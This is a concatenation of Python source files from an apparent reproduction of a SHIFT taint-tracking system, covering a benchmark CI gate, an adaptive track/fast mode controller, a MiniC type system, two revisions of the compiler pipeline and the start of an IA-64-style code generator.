        "attack_mix": mix,
        "clean_control": control,
        "two_tier": two_tier,
        "reproducibility": repro,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    quick = report["config"]["quick"]
    scaling = report["scaling"]
    threshold = 1.6 if quick else 2.5
    if scaling["scaling"] < threshold:
        failures.append(
            f"scaling {scaling['scaling']:.2f}x at "
            f"{scaling['target_workers']} workers < {threshold}x")
    mix = report["attack_mix"]
    if mix["detection_rate"] < 1.0:
        failures.append(f"attack detection {mix['detection_rate']:.2f} < 1.0")
    if not mix["exact"]:
        failures.append("attack mix was not exact")
    if not report["clean_control"]["clean"]:
        failures.append(
            f"{report['clean_control']['false_alerts']} false alert(s) "
            "on clean traffic")
    if not report["two_tier"]["proof"]:
        failures.append("two-tier taint-transport proof failed")
    repro = report["reproducibility"]
    if not repro["rerun_identical"]:
        failures.append("re-run digest diverged at fixed seed")
    if not repro["processes_identical"]:
        failures.append("multiprocessing digest diverged from in-process")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.fleetbench", __doc__,
                          output="BENCH_fleet.json")
    parser.add_argument("--requests", type=int, default=None,
                        help="scaling batch size (default: 32, quick: 12)")
    args = parser.parse_args(argv)

    requests = args.requests
    if requests is None:
        requests = 12 if args.quick else 32
    report = run_suite(args.quick, args.seed, args.engine, requests)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
