"""The runtime mode controller for dual-version (adaptive) builds.

The controller runs at every native/syscall boundary — after the
handler, while the pc still sits in the *shared* native stub code that
both versions call — and decides which copy of the program the guest
resumes into:

* **track -> fast** only from a provably quiescent state: zero tainted
  granules (the taint map's O(1) ``live_granules`` counter), zero
  spilled NaTs (``ar.unat`` of the running and every saved context),
  and zero NaT bits on any register that can carry a live value across
  a call boundary.  Registers that are *dead at every call boundary by
  construction* — the allocator's caller-saved pool (values that live
  across a call are placed callee-saved or spilled), codegen statement
  scratch, and the instrumentation scratch registers — may carry stale
  NaT bits from already-dead tainted values; those are cleared on the
  way out, which is exactly what makes re-quiescing possible at all.
* **fast -> track** the moment the live counter goes nonzero (taint
  sources only fire inside natives/syscalls, so the controller is
  always standing at the boundary when it happens).

Switching translates every resumable code address between the two
copies: the 8 branch registers, any general register holding a mapped
code address, the live stack window of every thread (spilled return
addresses), and saved thread contexts.  The translation maps come from
:class:`repro.compiler.pipeline.AdaptiveLayout` anchors; an address
that does not map (native stubs, ``_start``, mid-expansion pcs of
preempted threads) is left alone — untranslated code is always the
*instrumented* copy or shared code, so the failure mode of a missed
translation is "runs tracked while clean": slower, never unsound.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.compiler.codegen import SCRATCH_A, SCRATCH_ADDR, SCRATCH_B
from repro.compiler.instrument import T_ADDR, T_BITS, T_LIN, T_MASK, T_OFF
from repro.compiler.pipeline import AdaptiveLayout
from repro.compiler.regalloc import CALLER_SAVED_POOL
from repro.cpu.core import CODE_SLOT_BYTES, code_address
from repro.isa.operands import GR_NAT_SOURCE, GR_SP, NUM_GR
from repro.mem.address import REGION_CODE, offset_of, region_of

#: Cycles charged per mode switch (pipeline drain + register/stack
#: fixup at a serialization point).  Deliberately conservative so the
#: adaptivebench speedup is not flattered by free switches.
SWITCH_COST_CYCLES = 200.0

#: General registers that are dead at every call/native boundary by
#: construction, so a stale NaT bit on them cannot be a live tainted
#: value: the register allocator's caller-saved pool (r14-r27 — values
#: live across a call go callee-saved or to stack slots), the code
#: generator's per-statement scratch (r28-r30), the SHIFT
#: instrumentation scratch (r2/r3, r9-r11) and the manufactured NaT
#: source r31.  Argument registers, r8 (return), callee-saved r4-r7 and
#: sp are *not* here — a NaT on any of those blocks fast mode.
BOUNDARY_DEAD_GRS = frozenset(
    set(CALLER_SAVED_POOL)
    | {SCRATCH_A.index, SCRATCH_B.index, SCRATCH_ADDR.index}
    | {T_LIN.index, T_ADDR.index, T_BITS.index, T_OFF.index, T_MASK.index}
    | {GR_NAT_SOURCE}
)

MODE_TRACK = "track"
MODE_FAST = "fast"


class AdaptiveController:
    """Owns the machine's tracking mode and performs the hot switches."""

    def __init__(self, machine) -> None:
        layout = machine.compiled.adaptive
        if layout is None:
            raise ValueError("adaptive controller needs a dual-version build")
        self.machine = machine
        program = machine.program
        #: code index -> code index translation maps.  ``to_fast`` maps
        #: every track anchor (plus the function entry) to its clean
        #: twin; ``to_track`` maps *every* fast index back — entering
        #: track mode must never leave a fast address behind.
        self.to_fast: Dict[int, int] = {}
        self.to_track: Dict[int, int] = {}
        for name, anchors in layout.anchors.items():
            t0, _t1 = program.functions[name]
            f0, _f1 = program.functions[AdaptiveLayout.fast_name(name)]
            self.to_fast[t0] = f0
            self.to_track[f0] = t0
            for k, off in enumerate(anchors):
                self.to_fast[t0 + off] = f0 + k
                # f0 itself stays mapped to the function entry (so a
                # translated function pointer re-runs the natgen
                # prologue); ordinal 0 can never be a return address.
                self.to_track.setdefault(f0 + k, t0 + off)
        #: Execution starts in ``_start`` -> instrumented ``main``, so
        #: the machine is born tracking; the first quiescent boundary
        #: (typically the first ``accept``) drops it to fast mode.
        self.mode = MODE_TRACK
        self.enabled = True
        self.switches_to_fast = 0
        self.switches_to_track = 0
        #: Instruction counts at which switches happened (bounded; for
        #: tests and forensics, not metrics).
        self.switch_log = []

    # -- boundary hook -----------------------------------------------------

    def on_boundary(self, cpu) -> None:
        """Called by GuestOS after every native/syscall handler."""
        if not self.enabled or cpu.halted:
            return
        live = self.machine.taint_map.live_granules
        if self.mode == MODE_FAST:
            if live or cpu.unat:
                spec = getattr(self.machine, "spec", None)
                if spec is not None and spec.active:
                    # Speculation holds fast mode open with live taint:
                    # the epoch's range guards stand in for tracking,
                    # and its own boundary hook (which runs after this
                    # one) judges commit/rollback.
                    return
                self._switch(cpu, MODE_TRACK)
        elif live == 0 and self._quiescent(cpu):
            self._switch(cpu, MODE_FAST)

    # -- quiescence --------------------------------------------------------

    def _quiescent(self, cpu) -> bool:
        """True when no live tainted value can exist anywhere.

        The bitmap is already known empty (the caller checked the live
        counter); what remains is register state: spilled NaTs in any
        context's ``ar.unat``, and NaT bits on boundary-live registers.
        """
        if cpu.unat:
            return False
        nat = cpu.nat
        for i in range(1, NUM_GR):
            if nat[i] and i not in BOUNDARY_DEAD_GRS:
                return False
        threads = getattr(self.machine, "threads", None)
        if threads is not None:
            for thread in threads.threads.values():
                ctx = thread.context
                if ctx is None or thread.status == "done":
                    continue
                if ctx.unat:
                    return False
                # A preempted context can be stopped anywhere, so no
                # calling-convention argument applies: any NaT except
                # the manufactured source blocks fast mode.
                for i in range(1, NUM_GR):
                    if ctx.nat[i] and i != GR_NAT_SOURCE:
                        return False
        return True

    # -- switching ---------------------------------------------------------

    def _switch(self, cpu, mode: str) -> None:
        mapping = self.to_fast if mode == MODE_FAST else self.to_track
        trigger_pc = cpu.pc
        self._translate_regs(cpu.gr, cpu.br, mapping)
        if mode == MODE_TRACK:
            # Mid-function track entries skip the natgen prologue, so
            # the controller re-manufactures the NaT source itself.
            cpu.gr[GR_NAT_SOURCE] = 0
            cpu.nat[GR_NAT_SOURCE] = True
        else:
            for i in BOUNDARY_DEAD_GRS:
                cpu.nat[i] = False
        self._translate_stacks(cpu, mapping)
        self._translate_contexts(mapping)
        self.mode = mode
        cpu.counters.io_cycles += SWITCH_COST_CYCLES
        if mode == MODE_FAST:
            self.switches_to_fast += 1
        else:
            self.switches_to_track += 1
        if len(self.switch_log) < 64:
            self.switch_log.append(
                (mode, trigger_pc, cpu.counters.instructions))
        self._emit(mode, trigger_pc, cpu)

    def _translate_value(self, value: int, mapping) -> Optional[int]:
        if region_of(value) != REGION_CODE:
            return None
        offset = offset_of(value)
        if offset % CODE_SLOT_BYTES:
            return None
        new_index = mapping.get(offset // CODE_SLOT_BYTES - 1)
        return None if new_index is None else code_address(new_index)

    def _translate_regs(self, gr, br, mapping) -> None:
        for i in range(1, len(gr)):
            new = self._translate_value(gr[i], mapping)
            if new is not None:
                gr[i] = new
        for i in range(len(br)):
            new = self._translate_value(br[i], mapping)
            if new is not None:
                br[i] = new

    def _translate_stacks(self, cpu, mapping) -> None:
        """Rewrite mapped code addresses in every live stack window.

        Spilled return addresses (``st8.spill`` of b0 in prologues) are
        the load-bearing case; the scan is conservative over all 8-byte
        words from each context's sp to its stack top.
        """
        from repro.runtime.threads import thread_stack_top

        threads = getattr(self.machine, "threads", None)
        current_tid = threads.current_tid if threads is not None else 0
        self._translate_stack_window(
            cpu.gr[GR_SP], thread_stack_top(current_tid), mapping)
        if threads is None:
            return
        for thread in threads.threads.values():
            ctx = thread.context
            if ctx is None or thread.status == "done":
                continue
            self._translate_stack_window(
                ctx.gr[GR_SP], thread_stack_top(thread.tid), mapping)

    def _translate_stack_window(self, sp: int, top: int, mapping) -> None:
        memory = self.machine.memory
        addr = sp & ~7
        while addr < top:
            new = self._translate_value(memory.load(addr, 8), mapping)
            if new is not None:
                memory.store(addr, 8, new)
            addr += 8

    def _translate_contexts(self, mapping) -> None:
        threads = getattr(self.machine, "threads", None)
        if threads is None:
            return
        for thread in threads.threads.values():
            ctx = thread.context
            if ctx is None or thread.status == "done":
                continue
            self._translate_regs(ctx.gr, ctx.br, mapping)
            new_pc = mapping.get(ctx.pc)
            if new_pc is not None:
                ctx.pc = new_pc
            if mapping is self.to_track:
                ctx.gr[GR_NAT_SOURCE] = 0
                ctx.nat[GR_NAT_SOURCE] = True

    # -- observability -----------------------------------------------------

    def _emit(self, mode: str, trigger_pc: int, cpu) -> None:
        obs = self.machine.obs
        if obs is None:
            return
        from repro.obs.events import AdaptiveSwitchEvent

        obs.tracer.emit(AdaptiveSwitchEvent(
            direction=("adaptive.enter_fast" if mode == MODE_FAST
                       else "adaptive.enter_track"),
            trigger_pc=trigger_pc,
            live_bytes=self.machine.taint_map.live_bytes,
            instruction_count=cpu.counters.instructions,
        ))

    # -- checkpoint support (repro.resil) ----------------------------------

    def capture(self) -> tuple:
        return (self.mode, self.switches_to_fast, self.switches_to_track,
                list(self.switch_log))

    def restore(self, state: tuple) -> None:
        self.mode, self.switches_to_fast, self.switches_to_track, log = state
        self.switch_log = list(log)
