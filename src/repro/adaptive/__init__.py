"""On-demand taint tracking: run clean code until taint actually flows.

SHIFT prices every load and store whether or not a single bitmap bit is
set.  This package removes that cost while the machine is
*taint-quiescent*: the compiler emits two copies of every function (the
instrumented "track" copy at its canonical label, a clean "fast" copy
under ``f$fast`` — see :class:`repro.compiler.pipeline.AdaptiveLayout`),
and an :class:`AdaptiveController` hot-switches between them at native
and syscall boundaries, the only points where taint can enter or be
observed by the host.

Soundness rule (the one that matters): **fast mode is only ever entered
from a quiescent state** — zero tainted granules in the bitmap
(``TaintMap.live_granules``, O(1)), zero spilled NaTs (``ar.unat`` of
every context), and zero NaT bits on registers that can carry a live
value across a call boundary.  Clean code cannot create taint, so the
machine provably stays quiescent until the next taint source fires —
at which point the controller is standing right there (sources fire
inside natives/syscalls) and switches to track before a single tainted
byte is consumed.  Every tag write the fast copy *would* have made is a
clear-on-already-clear: the bitmap is bit-identical to an always-on run.
"""

from repro.adaptive.controller import BOUNDARY_DEAD_GRS, AdaptiveController

__all__ = ["AdaptiveController", "BOUNDARY_DEAD_GRS"]
