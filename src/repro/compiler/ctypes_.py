"""MiniC type system.

``char`` is 1 byte (signed), ``int``/``long`` are 8 bytes (a *word* in
the paper's terminology), pointers are 8 bytes.  Arrays decay to
pointers in expression context, as in C.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple


@dataclass(frozen=True)
class StructField:
    """One member of a struct: name, type and byte offset."""

    name: str
    ctype: "CType"
    offset: int


@dataclass(frozen=True)
class CType:
    """A MiniC type: base kind plus pointer depth or array length."""

    kind: str  # 'char' | 'int' | 'void' | 'ptr' | 'array' | 'struct' | 'func'
    pointee: Optional["CType"] = None  # for 'ptr' and 'array'
    length: int = 0  # for 'array'
    params: Tuple["CType", ...] = ()  # for 'func'
    ret: Optional["CType"] = None  # for 'func'
    tag: str = ""  # for 'struct': the struct name
    fields: Tuple[StructField, ...] = ()  # for 'struct'
    struct_size: int = 0  # for 'struct' (computed at definition)

    @property
    def size(self) -> int:
        """Size in bytes of a value of this type."""
        if self.kind == "char":
            return 1
        if self.kind == "int":
            return 8
        if self.kind == "ptr":
            return 8
        if self.kind == "array":
            return self.pointee.size * self.length
        if self.kind == "struct":
            return self.struct_size
        if self.kind == "void":
            return 0
        raise ValueError(f"{self} has no size")

    @property
    def is_struct(self) -> bool:
        """True for struct types."""
        return self.kind == "struct"

    def field(self, name: str) -> StructField:
        """Look up a struct member by name (KeyError if absent)."""
        for member in self.fields:
            if member.name == name:
                return member
        raise KeyError(f"struct {self.tag} has no field {name!r}")

    @property
    def is_pointer(self) -> bool:
        """True for pointer types."""
        return self.kind == "ptr"

    @property
    def is_array(self) -> bool:
        """True for array types."""
        return self.kind == "array"

    @property
    def is_integer(self) -> bool:
        """True for char/int types."""
        return self.kind in ("char", "int")

    @property
    def is_void(self) -> bool:
        """True for void."""
        return self.kind == "void"

    def decay(self) -> "CType":
        """Array-to-pointer decay (expression context)."""
        if self.is_array:
            return pointer_to(self.pointee)
        return self

    @property
    def load_size(self) -> int:
        """Bytes moved when loading/storing a value of this type."""
        return self.decay().size

    @property
    def signed(self) -> bool:
        """True when loads of this type sign-extend."""
        return self.kind in ("char", "int")

    def __str__(self) -> str:
        if self.kind == "ptr":
            return f"{self.pointee}*"
        if self.kind == "array":
            return f"{self.pointee}[{self.length}]"
        if self.kind == "struct":
            return f"struct {self.tag}"
        if self.kind == "func":
            params = ", ".join(str(p) for p in self.params)
            return f"{self.ret}({params})"
        return self.kind


CHAR = CType("char")
INT = CType("int")
VOID = CType("void")


def pointer_to(pointee: CType) -> CType:
    """Pointer type to ``pointee``."""
    return CType("ptr", pointee=pointee)


def array_of(element: CType, length: int) -> CType:
    """Array type of ``length`` elements."""
    return CType("array", pointee=element, length=length)


def struct_type(tag: str, members) -> CType:
    """Lay out a struct: members are (name, CType) pairs.

    Every member is aligned to 8 bytes except trailing chars/char
    arrays, which pack naturally; total size rounds up to 8.
    """
    fields = []
    offset = 0
    for name, ctype in members:
        align = 1 if ctype.kind == "char" or (
            ctype.kind == "array" and ctype.pointee.kind == "char") else 8
        offset = (offset + align - 1) // align * align
        fields.append(StructField(name=name, ctype=ctype, offset=offset))
        offset += ctype.size
    total = (offset + 7) // 8 * 8
    return CType("struct", tag=tag, fields=tuple(fields),
                 struct_size=max(total, 8))


def function_type(ret: CType, params: Tuple[CType, ...]) -> CType:
    """Function type (used for signatures)."""
    return CType("func", ret=ret, params=params)
