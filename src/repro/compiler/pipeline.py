"""End-to-end MiniC compilation: parse -> IR -> regalloc -> codegen ->
SHIFT instrumentation -> linked :class:`Program`.

The produced program is self-contained: it includes ``_start`` (sets up
the stack, calls ``main``, exits through the ``exit`` syscall) and one
stub per ``native`` function that traps into the runtime's native
dispatcher.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, Iterable, List, Optional, Tuple, Union

from repro.compiler.codegen import FunctionCode, lower_function
from repro.compiler.instrument import (
    INVALID_ADDR,
    ShiftInstrumenter,
    ShiftOptions,
    UNINSTRUMENTED,
    instrument_function,
)
from repro.compiler.irgen import IRGenerator, ModuleIR
from repro.compiler.parser import parse
from repro.cpu.core import BREAK_NATIVE_BASE, BREAK_SYSCALL
from repro.isa.instruction import Instruction, Label
from repro.isa.operands import BR, GR, GR_FIRST_ARG, GR_NAT_SOURCE, GR_RET, GR_SYSNUM, SP
from repro.isa.program import Program, ProgramBuilder
from repro.mem.address import REGION_STACK, make_address

#: Initial stack pointer (top of the stack region, 16-byte aligned).
STACK_TOP = make_address(REGION_STACK, 1 << 30)

#: Syscall numbers (see :mod:`repro.runtime.guest_os`).
SYS_EXIT = 0
SYS_THREAD_EXIT = 1


#: Label suffix for the clean (uninstrumented) copy of a dual-version
#: function.  "$" cannot appear in MiniC identifiers, so the suffixed
#: names can never collide with user symbols.
FAST_SUFFIX = "$fast"


@dataclass
class AdaptiveLayout:
    """Where the two copies of each function live and how they pair up.

    For function ``f`` the instrumented ("track") copy sits at its
    canonical label ``f`` — at exactly the code indices an always-on
    build would place it — and the clean ("fast") copy at ``f$fast``.
    ``anchors[f][k]`` is the instruction offset, within the track copy,
    of the expansion of the k-th original instruction; the same original
    sits at offset ``k`` in the fast copy.  The adaptive controller
    turns these into bidirectional pc translation maps.
    """

    #: function name -> per-original-instruction track offsets.
    anchors: Dict[str, Tuple[int, ...]] = field(default_factory=dict)

    @staticmethod
    def fast_name(name: str) -> str:
        return name + FAST_SUFFIX


@dataclass
class CompiledProgram:
    """A linked guest program plus compile-time metadata."""

    program: Program
    options: ShiftOptions
    module: ModuleIR
    #: function -> instruction count (excluding natives/_start), used by
    #: the Table 3 code-size accounting.
    function_sizes: Dict[str, int] = field(default_factory=dict)
    #: Dual-version pairing metadata, or None for single-version builds.
    adaptive: Optional[AdaptiveLayout] = None

    @property
    def total_instructions(self) -> int:
        """Instruction count across compiled functions (Table 3 input)."""
        return sum(self.function_sizes.values())


def compile_program(
    sources: Union[str, Iterable[str]],
    options: ShiftOptions = UNINSTRUMENTED,
    entry: str = "_start",
    adaptive: bool = False,
) -> CompiledProgram:
    """Compile one or more MiniC source texts into a linked program.

    With ``adaptive=True`` (requires ``options.mode == "shift"``) every
    function is emitted twice: the instrumented copy at its canonical
    label — in the same order, and therefore at the same code indices,
    as an always-on build — and a clean copy under ``f$fast`` appended
    after ``_start``.  Direct calls inside fast copies target other fast
    copies; ``&f`` function-pointer immediates keep resolving to the
    instrumented entry, so any pointer the controller never translated
    still lands on tracked code (the sound direction).
    """
    if isinstance(sources, str):
        sources = [sources]
    if adaptive and options.mode != "shift":
        raise ValueError("adaptive builds require options.mode == 'shift'")
    gen = IRGenerator()
    for source in sources:
        gen.add_unit(parse(source))
    module = gen.finish()
    if not any(f.name == "main" for f in module.functions):
        raise ValueError("program has no main function")

    builder = ProgramBuilder()
    for item in module.data:
        builder.add_data(item)
    for native in module.natives:
        builder.declare_native(native)

    sizes: Dict[str, int] = {}
    layout = AdaptiveLayout() if adaptive else None
    fast_copies: List[FunctionCode] = []
    user_names = {f.name for f in module.functions}
    for irf in module.functions:
        code = lower_function(irf)
        if options.mode == "lift":
            from repro.baselines.lift import lift_instrument_function

            icode = lift_instrument_function(code)
        elif adaptive:
            inst = ShiftInstrumenter(options)
            icode = inst.instrument(code)
            layout.anchors[irf.name] = tuple(inst.anchors)
            fast_copies.append(_clone_fast(code, user_names))
        else:
            icode = instrument_function(code, options)
        builder.begin_function(irf.name)
        builder.extend(icode.items)
        builder.end_function()
        sizes[irf.name] = sum(1 for i in icode.items if isinstance(i, Instruction))

    _emit_native_stubs(builder, module.natives)
    _emit_thread_exit(builder)
    _emit_start(builder, options)
    # Fast copies go after everything the always-on layout contains, so
    # the track half of the dual build is index-identical to it.
    for fast in fast_copies:
        builder.begin_function(fast.name)
        builder.extend(fast.items)
        builder.end_function()
    program = builder.build(entry="_start")
    return CompiledProgram(program=program, options=options, module=module,
                           function_sizes=sizes, adaptive=layout)


def _clone_fast(code: FunctionCode, user_names) -> FunctionCode:
    """Clean copy of a function renamed into the ``$fast`` namespace.

    Local labels are suffixed (they would otherwise collide with the
    track copy's), and direct branch targets are retargeted when they
    name either a local label or another dual-version function.  Native
    stubs and ``__thread_exit`` stay shared — they are version-neutral.
    """
    local = {item.name for item in code.items if isinstance(item, Label)}
    items: List[Union[Label, Instruction]] = []
    for item in code.items:
        if isinstance(item, Label):
            items.append(Label(item.name + FAST_SUFFIX))
            continue
        target = item.target
        if target is not None and (target in local or target in user_names):
            item = replace(item, target=target + FAST_SUFFIX)
        items.append(item)
    return FunctionCode(
        name=code.name + FAST_SUFFIX,
        items=items,
        frame_size=code.frame_size,
        makes_calls=code.makes_calls,
    )


def _emit_native_stubs(builder: ProgramBuilder, natives: List[str]) -> None:
    """One trap-and-return stub per native function.

    The stub index must match the order of ``program.natives``, which the
    runtime uses to dispatch.
    """
    for index, name in enumerate(natives):
        builder.begin_function(name)
        builder.emit(Instruction("break", imm=BREAK_NATIVE_BASE + index))
        builder.emit(Instruction("br.ret", ins=(BR(0),)))
        builder.end_function()


def _emit_thread_exit(builder: ProgramBuilder) -> None:
    """Landing pad for returning thread functions (b0 of new threads)."""
    builder.begin_function("__thread_exit")
    builder.emit(Instruction("mov", outs=(GR(GR_FIRST_ARG),), ins=(GR(GR_RET),)))
    builder.emit(Instruction("movl", outs=(GR(GR_SYSNUM),), imm=SYS_THREAD_EXIT))
    builder.emit(Instruction("break", imm=BREAK_SYSCALL))
    builder.end_function()


def _emit_start(builder: ProgramBuilder, options: ShiftOptions) -> None:
    builder.begin_function("_start")
    builder.emit(Instruction("movl", outs=(SP,), imm=STACK_TOP))
    if options.mode == "shift" and options.natgen == "global" \
            and not options.enh_set_clear:
        # One NaT source for the whole program (paper 4.4: the cheapest
        # strategy, which the proposed set/clear instructions obsolete).
        nat = GR(GR_NAT_SOURCE)
        builder.emit(Instruction("movl", outs=(nat,), imm=INVALID_ADDR))
        builder.emit(Instruction("ld8.s", outs=(nat,), ins=(nat,)))
    builder.emit(Instruction("br.call", outs=(BR(0),), target="main"))
    builder.emit(Instruction("mov", outs=(GR(GR_FIRST_ARG),), ins=(GR(GR_RET),)))
    builder.emit(Instruction("movl", outs=(GR(GR_SYSNUM),), imm=SYS_EXIT))
    builder.emit(Instruction("break", imm=BREAK_SYSCALL))
    builder.end_function()
