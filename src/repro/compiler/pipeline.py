"""End-to-end MiniC compilation: parse -> IR -> regalloc -> codegen ->
SHIFT instrumentation -> linked :class:`Program`.

The produced program is self-contained: it includes ``_start`` (sets up
the stack, calls ``main``, exits through the ``exit`` syscall) and one
stub per ``native`` function that traps into the runtime's native
dispatcher.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Union

from repro.compiler.codegen import lower_function
from repro.compiler.instrument import INVALID_ADDR, ShiftOptions, UNINSTRUMENTED, instrument_function
from repro.compiler.irgen import IRGenerator, ModuleIR
from repro.compiler.parser import parse
from repro.cpu.core import BREAK_NATIVE_BASE, BREAK_SYSCALL
from repro.isa.instruction import Instruction
from repro.isa.operands import BR, GR, GR_FIRST_ARG, GR_NAT_SOURCE, GR_RET, GR_SYSNUM, SP
from repro.isa.program import Program, ProgramBuilder
from repro.mem.address import REGION_STACK, make_address

#: Initial stack pointer (top of the stack region, 16-byte aligned).
STACK_TOP = make_address(REGION_STACK, 1 << 30)

#: Syscall numbers (see :mod:`repro.runtime.guest_os`).
SYS_EXIT = 0
SYS_THREAD_EXIT = 1


@dataclass
class CompiledProgram:
    """A linked guest program plus compile-time metadata."""

    program: Program
    options: ShiftOptions
    module: ModuleIR
    #: function -> instruction count (excluding natives/_start), used by
    #: the Table 3 code-size accounting.
    function_sizes: Dict[str, int] = field(default_factory=dict)

    @property
    def total_instructions(self) -> int:
        """Instruction count across compiled functions (Table 3 input)."""
        return sum(self.function_sizes.values())


def compile_program(
    sources: Union[str, Iterable[str]],
    options: ShiftOptions = UNINSTRUMENTED,
    entry: str = "_start",
) -> CompiledProgram:
    """Compile one or more MiniC source texts into a linked program."""
    if isinstance(sources, str):
        sources = [sources]
    gen = IRGenerator()
    for source in sources:
        gen.add_unit(parse(source))
    module = gen.finish()
    if not any(f.name == "main" for f in module.functions):
        raise ValueError("program has no main function")

    builder = ProgramBuilder()
    for item in module.data:
        builder.add_data(item)
    for native in module.natives:
        builder.declare_native(native)

    sizes: Dict[str, int] = {}
    for irf in module.functions:
        code = lower_function(irf)
        if options.mode == "lift":
            from repro.baselines.lift import lift_instrument_function

            code = lift_instrument_function(code)
        else:
            code = instrument_function(code, options)
        builder.begin_function(irf.name)
        builder.extend(code.items)
        builder.end_function()
        sizes[irf.name] = sum(1 for i in code.items if isinstance(i, Instruction))

    _emit_native_stubs(builder, module.natives)
    _emit_thread_exit(builder)
    _emit_start(builder, options)
    program = builder.build(entry="_start")
    return CompiledProgram(program=program, options=options, module=module,
                           function_sizes=sizes)


def _emit_native_stubs(builder: ProgramBuilder, natives: List[str]) -> None:
    """One trap-and-return stub per native function.

    The stub index must match the order of ``program.natives``, which the
    runtime uses to dispatch.
    """
    for index, name in enumerate(natives):
        builder.begin_function(name)
        builder.emit(Instruction("break", imm=BREAK_NATIVE_BASE + index))
        builder.emit(Instruction("br.ret", ins=(BR(0),)))
        builder.end_function()


def _emit_thread_exit(builder: ProgramBuilder) -> None:
    """Landing pad for returning thread functions (b0 of new threads)."""
    builder.begin_function("__thread_exit")
    builder.emit(Instruction("mov", outs=(GR(GR_FIRST_ARG),), ins=(GR(GR_RET),)))
    builder.emit(Instruction("movl", outs=(GR(GR_SYSNUM),), imm=SYS_THREAD_EXIT))
    builder.emit(Instruction("break", imm=BREAK_SYSCALL))
    builder.end_function()


def _emit_start(builder: ProgramBuilder, options: ShiftOptions) -> None:
    builder.begin_function("_start")
    builder.emit(Instruction("movl", outs=(SP,), imm=STACK_TOP))
    if options.mode == "shift" and options.natgen == "global" \
            and not options.enh_set_clear:
        # One NaT source for the whole program (paper 4.4: the cheapest
        # strategy, which the proposed set/clear instructions obsolete).
        nat = GR(GR_NAT_SOURCE)
        builder.emit(Instruction("movl", outs=(nat,), imm=INVALID_ADDR))
        builder.emit(Instruction("ld8.s", outs=(nat,), ins=(nat,)))
    builder.emit(Instruction("br.call", outs=(BR(0),), target="main"))
    builder.emit(Instruction("mov", outs=(GR(GR_FIRST_ARG),), ins=(GR(GR_RET),)))
    builder.emit(Instruction("movl", outs=(GR(GR_SYSNUM),), imm=SYS_EXIT))
    builder.emit(Instruction("break", imm=BREAK_SYSCALL))
    builder.end_function()
