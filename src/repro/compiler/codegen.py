"""IR -> IA-64-like machine code.

Produces per-function instruction streams with Itanium-flavoured
prologues/epilogues: callee-saved registers are preserved with
``st8.spill``/``ld8.fill`` (keeping their NaT bits alive through the
UNAT register, so taint in callee-saved registers survives calls without
any bitmap traffic), ``ar.unat`` itself is treated as callee-saved, and
``b0`` is spilled to the frame in non-leaf functions.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union

from repro.compiler.errors import CompileError
from repro.compiler.ir import IRFunction, IRInstr, Operand, VReg
from repro.compiler.regalloc import Allocation, allocate
from repro.isa.instruction import Instruction, Label
from repro.isa.operands import AR_UNAT, BR, GR, GR_FIRST_ARG, GR_RET, NUM_ARG_REGS, PR, R0, SP

#: Code-generator scratch registers (never allocated to user values).
SCRATCH_A = GR(28)
SCRATCH_B = GR(29)
SCRATCH_ADDR = GR(30)

#: Immediates representable by ``adds``-style 14-bit forms.
IMM14_MIN, IMM14_MAX = -(1 << 13), (1 << 13) - 1

_ALU_MAP = {"add": "add", "sub": "sub", "mul": "mul", "div": "div", "mod": "mod",
            "and": "and", "or": "or", "xor": "xor",
            "shl": "shl", "shr": "shr", "shru": "shr.u"}
_IMM_OK = {"add", "sub", "and", "or", "xor", "shl", "shr", "shru"}

Item = Union[Label, Instruction]


@dataclass
class FunctionCode:
    """Machine code for one function, pre-instrumentation."""

    name: str
    items: List[Item] = field(default_factory=list)
    frame_size: int = 0
    makes_calls: bool = False


class FunctionCodegen:
    """Lowers one IR function using a prior register allocation."""

    def __init__(self, irf: IRFunction, allocation: Optional[Allocation] = None) -> None:
        self.irf = irf
        self.allocation = allocation or allocate(irf)
        self.items: List[Item] = []
        self.makes_calls = any(i.is_call for i in irf.body)
        self._layout_frame()

    def _layout_frame(self) -> None:
        offset = (self.irf.frame_size + 7) // 8 * 8
        self.spill_base = offset
        offset += 8 * self.allocation.spill_slot_count
        self.b0_offset = offset
        if self.makes_calls:
            offset += 8
        # Any function that executes st8.spill (callee saves or body
        # spill slots) must preserve ar.unat: otherwise a spilled NaT's
        # unat bit would outlive the frame it belongs to, and a stale
        # bit for a dead slot is indistinguishable from a live tainted
        # spill (it would pin repro.adaptive in track mode forever).
        self.preserves_unat = bool(self.allocation.callee_saved_used
                                   or self.allocation.spill_slot_count)
        self.unat_offset = offset
        if self.preserves_unat:
            offset += 8
        self.callee_save_offsets: Dict[int, int] = {}
        for reg in self.allocation.callee_saved_used:
            self.callee_save_offsets[reg] = offset
            offset += 8
        self.frame_size = (offset + 15) // 16 * 16

    # -- emit helpers ----------------------------------------------------

    def emit(self, op: str, **kwargs) -> Instruction:
        """Append one instruction to the output stream."""
        instr = Instruction(op, **kwargs)
        self.items.append(instr)
        return instr

    def label(self, name: str) -> None:
        """Append a label to the output stream."""
        self.items.append(Label(name))

    def _load_imm(self, dest, value: int) -> None:
        if IMM14_MIN <= value <= IMM14_MAX:
            self.emit("adds", outs=(dest,), ins=(R0,), imm=value)
        else:
            self.emit("movl", outs=(dest,), imm=value)

    def _slot_addr(self, slot: int) -> None:
        """SCRATCH_ADDR = &spill_slot[slot]."""
        offset = self.spill_base + 8 * slot
        self.emit("adds", outs=(SCRATCH_ADDR,), ins=(SP,), imm=offset)

    def _frame_addr(self, dest, offset: int) -> None:
        self.emit("adds", outs=(dest,), ins=(SP,), imm=offset)

    def read_operand(self, operand: Operand, scratch) -> object:
        """Materialise ``operand`` into a register; returns the register."""
        if isinstance(operand, int):
            self._load_imm(scratch, operand)
            return scratch
        kind, where = self.allocation.location(operand)
        if kind == "reg":
            return GR(where)
        self._slot_addr(where)
        self.emit("ld8", outs=(scratch,), ins=(SCRATCH_ADDR,))
        return scratch

    def write_result(self, vreg: VReg):
        """Register to compute a result into, plus a finish callback."""
        kind, where = self.allocation.location(vreg)
